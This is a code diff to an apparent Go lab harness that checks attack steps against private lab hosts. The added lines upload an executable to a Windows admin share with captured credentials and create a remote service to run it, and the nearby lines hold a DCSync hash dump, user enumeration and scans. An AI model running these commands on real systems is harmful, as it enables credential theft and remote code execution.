@@ -35,6 +35,9 @@ func (l *lab) extra() {
 			END`, "(?s)104.*Exception"},
 			step{h, "sip", "sipp -sn uac 10.20.0.40:5060 -i 10.20.2.5 -m 2 -r 1 -d 1500 -timeout 20 -nostdin 2>&1 | tail -30", "Successful call.*2"},
 			step{h, "impacket-samr", "/usr/bin/python3 /usr/share/doc/python3-impacket/examples/samrdump.py 'corp.example/a.kowal:" + kowalPassword + "@10.20.0.10'", "m.ortiz"},
+			step{h, "remote-service", `smbclient '//10.20.0.20/admin$' -U 'CORP\a.kowal%` + kowalPassword + `' -c 'put /root/svc.exe svc.exe; ls'
+				net rpc service list -S 10.20.0.20 -U 'CORP\a.kowal%` + kowalPassword + `'
+				net rpc service create helper 'Helper service' 'C:\svc.exe' -S 10.20.0.20 -U 'CORP\a.kowal%` + kowalPassword + `'`, "(?s)putting file.*(ACCESS_DENIED|Successfully)"},
 			step{h, "dcsync", "/usr/bin/python3 /usr/share/doc/python3-impacket/examples/secretsdump.py -just-dc-user m.ortiz 'corp.example/a.kowal:" + kowalPassword + "@10.20.0.10'", "DRSUAPI method"},
 			step{h, "ldap-clear-ad", "ldapsearch -x -LLL -H ldap://10.20.0.10 -D j.lind@corp.example -w '" + lindPassword + "' -b DC=corp,DC=example '(objectClass=user)' sAMAccountName", "m.ortiz"},
 			step{h, "nmap-versions", "nmap -n -Pn -sV --version-intensity 2 -p 21,22,80 10.20.0.40; nmap -n -sU -Pn -p 53,123,161 10.20.0.2", "vsftpd"},
